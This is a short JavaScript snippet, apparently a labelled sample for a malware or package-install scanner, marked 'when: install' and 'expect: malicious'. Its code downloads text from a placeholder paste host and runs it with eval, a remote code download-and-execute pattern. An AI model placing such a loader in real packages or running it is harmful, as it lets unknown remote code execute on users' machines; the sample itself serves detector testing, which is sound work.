// when: install
// expect: malicious
const https = require('https');
https.get('https://paste.example/raw/x', (r) => {
  r.on('data', (c) => { eval(c); });
});
